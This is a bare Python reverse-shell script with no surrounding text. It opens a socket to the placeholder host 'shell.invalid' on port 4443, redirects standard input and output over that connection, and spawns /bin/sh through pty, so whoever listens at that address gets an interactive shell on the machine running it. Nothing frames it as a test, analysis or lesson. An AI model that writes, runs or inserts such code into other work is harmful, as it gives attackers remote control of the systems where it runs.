import os
import pty
import socket

s = socket.create_connection(("shell.invalid", 4443))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
